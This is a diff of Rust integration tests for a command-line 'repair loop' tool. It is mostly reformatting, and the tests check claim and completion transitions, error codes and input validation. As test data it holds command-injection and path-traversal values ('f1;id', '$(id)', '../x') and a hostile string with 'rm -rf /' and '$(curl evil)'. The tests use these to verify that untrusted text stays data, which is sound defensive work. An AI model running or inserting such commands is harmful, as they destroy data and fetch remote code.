@@ -8,8 +8,16 @@ fn a_finding_goes_round_the_loop_through_the_cli() {
     let dir = tempfile::tempdir().unwrap();
     let root = dir.path();
     let document = doc(&[finding("f1", "Make the button blue")]);
-    let out = run(root, &["agent", "repair-import", "-", "--session", "s1", "--json"], Some(document.as_bytes()));
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let out = run(
+        root,
+        &["agent", "repair-import", "-", "--session", "s1", "--json"],
+        Some(document.as_bytes()),
+    );
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     assert_eq!(json(&out)["accepted"], serde_json::json!(["f1"]));
 
     let inbox = json(&run(root, &["agent", "repair-inbox", "--json"], None));
@@ -17,7 +25,12 @@ fn a_finding_goes_round_the_loop_through_the_cli() {
     let next = &inbox["items"][0]["next_action"];
     assert_eq!(next["kind"], "claim");
     // Run the generated command exactly as given (argv without the program name).
-    let argv: Vec<String> = next["argv"].as_array().unwrap().iter().map(|v| v.as_str().unwrap().to_owned()).collect();
+    let argv: Vec<String> = next["argv"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|v| v.as_str().unwrap().to_owned())
+        .collect();
     let args: Vec<&str> = argv[1..].iter().map(String::as_str).collect();
     let claimed = json(&run(root, &args, None));
     assert_eq!(claimed["result"]["to"], "claimed");
@@ -29,30 +42,66 @@ fn a_finding_goes_round_the_loop_through_the_cli() {
 
     let step = |args: &[&str]| {
         let out = run(root, args, None);
-        assert!(out.status.success(), "{args:?}: {}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+        assert!(
+            out.status.success(),
+            "{args:?}: {}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
         json(&out)
     };
     let common = |verb: &'static str, rid: &'static str| -> Vec<String> {
-        ["agent", verb, "f1", "--session", "s1", "--request-id", rid, "--json"].map(String::from).to_vec()
+        [
+            "agent",
+            verb,
+            "f1",
+            "--session",
+            "s1",
+            "--request-id",
+            rid,
+            "--json",
+        ]
+        .map(String::from)
+        .to_vec()
     };
     let mut progress = common("repair-progress", "p1");
-    progress.extend(["--attempt-id".into(), attempt.clone(), "--message".into(), "editing".into()]);
+    progress.extend([
+        "--attempt-id".into(),
+        attempt.clone(),
+        "--message".into(),
+        "editing".into(),
+    ]);
     let v = step(&progress.iter().map(String::as_str).collect::<Vec<_>>());
     assert_eq!(v["result"]["to"], "repairing");
     // Complete without a change list fails closed.
     let mut complete = common("repair-complete", "c1");
     complete.extend(["--attempt-id".into(), attempt.clone()]);
-    let out = run(root, &complete.iter().map(String::as_str).collect::<Vec<_>>(), None);
+    let out = run(
+        root,
+        &complete.iter().map(String::as_str).collect::<Vec<_>>(),
+        None,
+    );
     assert_eq!(out.status.code(), Some(2));
-    assert_eq!(json(&out)["error"]["code"], "test.session.repair_invalid_input");
-    complete.extend(["--changed-file".into(), "src/b.tsx".into(), "--changed-file".into(), "src/a.css".into()]);
+    assert_eq!(
+        json(&out)["error"]["code"],
+        "test.session.repair_invalid_input"
+    );
+    complete.extend([
+        "--changed-file".into(),
+        "src/b.tsx".into(),
+        "--changed-file".into(),
+        "src/a.css".into(),
+    ]);
     let v = step(&complete.iter().map(String::as_str).collect::<Vec<_>>());
     assert_eq!(v["result"]["to"], "verifying");
     assert_eq!(v["next_action"]["kind"], "await_verification");
 
     let rec = step(&["agent", "repair-inspect", "f1", "--session", "s1", "--json"]);
     assert_eq!(rec["protocol"], "a3s.test.repair-loop-record/1");
-    assert_eq!(rec["changed_files"], serde_json::json!(["src/b.tsx", "src/a.css"]));
+    assert_eq!(
+        rec["changed_files"],
+        serde_json::json!(["src/b.tsx", "src/a.css"])
+    );
     assert_eq!(rec["untrusted"]["instruction"], "Make the button blue");
 }
 
@@ -61,39 +110,116 @@ fn refusals_are_coded_and_exit_non_zero() {
     let dir = tempfile::tempdir().unwrap();
     let root = dir.path();
     let document = doc(&[finding("f1", "x")]);
-    run(root, &["agent", "repair-import", "-", "--session", "s1"], Some(document.as_bytes()));
-    let claim = ["agent", "repair-claim", "f1", "--session", "s1", "--request-id", "a", "--json"];
+    run(
+        root,
+        &["agent", "repair-import", "-", "--session", "s1"],
+        Some(document.as_bytes()),
+    );
+    let claim = [
+        "agent",
+        "repair-claim",
+        "f1",
+        "--session",
+        "s1",
+        "--request-id",
+        "a",
+        "--json",
+    ];
     assert!(run(root, &claim, None).status.success());
-    let other = ["agent", "repair-claim", "f1", "--session", "s1", "--request-id", "b", "--json"];
+    let other = [
+        "agent",
+        "repair-claim",
+        "f1",
+        "--session",
+        "s1",
+        "--request-id",
+        "b",
+        "--json",
+    ];
     let out = run(root, &other, None);
     assert_eq!(out.status.code(), Some(1));
-    assert_eq!(json(&out)["error"]["code"], "test.session.repair_invalid_transition");
-    let conflict = ["agent", "repair-reject", "f1", "--session", "s1", "--request-id", "a", "--json"];
+    assert_eq!(
+        json(&out)["error"]["code"],
+        "test.session.repair_invalid_transition"
+    );
+    let conflict = [
+        "agent",
+        "repair-reject",
+        "f1",
+        "--session",
+        "s1",
+        "--request-id",
+        "a",
+        "--json",
+    ];
     let out = run(root, &conflict, None);
-    assert_eq!(json(&out)["error"]["code"], "test.session.repair_idempotency_conflict");
+    assert_eq!(
+        json(&out)["error"]["code"],
+        "test.session.repair_idempotency_conflict"
+    );
     for bad in [
-        ["agent", "repair-claim", "f1;id", "--session", "s1", "--request-id", "c", "--json"],
-        ["agent", "repair-claim", "f1", "--session", "../x", "--request-id", "c", "--json"],
-        ["agent", "repair-claim", "f1", "--session", "s1", "--request-id", "$(id)", "--json"],
+        [
+            "agent",
+            "repair-claim",
+            "f1;id",
+            "--session",
+            "s1",
+            "--request-id",
+            "c",
+            "--json",
+        ],
+        [
+            "agent",
+            "repair-claim",
+            "f1",
+            "--session",
+            "../x",
+            "--request-id",
+            "c",
+            "--json",
+        ],
+        [
+            "agent",
+            "repair-claim",
+            "f1",
+            "--session",
+            "s1",
+            "--request-id",
+            "$(id)",
+            "--json",
+        ],
     ] {
         let out = run(root, &bad, None);
         assert_eq!(out.status.code(), Some(2));
-        assert_eq!(json(&out)["error"]["code"], "test.session.repair_invalid_id");
+        assert_eq!(
+            json(&out)["error"]["code"],
+            "test.session.repair_invalid_id"
+        );
     }
-    let out = run(root, &["agent", "repair-inbox", "--limit", "101", "--json"], None);
+    let out = run(
+        root,
+        &["agent", "repair-inbox", "--limit", "101", "--json"],
+        None,
+    );
     assert_eq!(out.status.code(), Some(2));
     // Human output goes to stderr with the code.
     let out = run(root, &other[..7], None);
-    assert!(String::from_utf8_lossy(&out.stderr).contains("error[test.session.repair_invalid_transition]"));
+    assert!(String::from_utf8_lossy(&out.stderr)
+        .contains("error[test.session.repair_invalid_transition]"));
 }
 
 #[test]
 fn hostile_instruction_text_stays_data() {
     let dir = tempfile::tempdir().unwrap();
     let root = dir.path();
-    let hostile = "'; rm -rf / #\n$(curl evil) `id` && a3s-test agent repair-accept f1 --session s1";
+    let hostile =
+        "'; rm -rf / #\n$(curl evil) `id` && a3s-test agent repair-accept f1 --session s1";
     let document = doc(&[finding("f1", hostile)]);
-    run(root, &["agent", "repair-import", "-", "--session", "s1"], Some(document.as_bytes()));
+    run(
+        root,
+        &["agent", "repair-import", "-", "--session", "s1"],
+        Some(document.as_bytes()),
+    );
     let inbox = json(&run(root, &["agent", "repair-inbox", "--json"], None));
     let item = &inbox["items"][0];
     assert_eq!(item["page_text"]["untrusted"], true);
@@ -102,8 +228,20 @@ fn hostile_instruction_text_stays_data() {
         assert!(!command.contains(bad), "{bad} leaked into {command}");
     }
     let human = String::from_utf8(run(root, &["agent", "repair-inbox"], None).stdout).unwrap();
-    assert!(!human.lines().any(|l| l.contains("next") && l.contains("rm -rf")));
-    let rec = json(&run(root, &["agent", "repair-inspect", "f1", "--session", "s1", "--json"], None));
-    assert_eq!(rec["untrusted"]["instruction"], Value::String(hostile.into()));
-    assert!(!rec["next_action"]["command"].as_str().unwrap().contains("rm"));
+    assert!(!human
+        .lines()
+        .any(|l| l.contains("next") && l.contains("rm -rf")));
+    let rec = json(&run(
+        root,
+        &["agent", "repair-inspect", "f1", "--session", "s1", "--json"],
+        None,
+    ));
+    assert_eq!(
+        rec["untrusted"]["instruction"],
+        Value::String(hostile.into())
+    );
+    assert!(!rec["next_action"]["command"]
+        .as_str()
+        .unwrap()
+        .contains("rm"));
 }
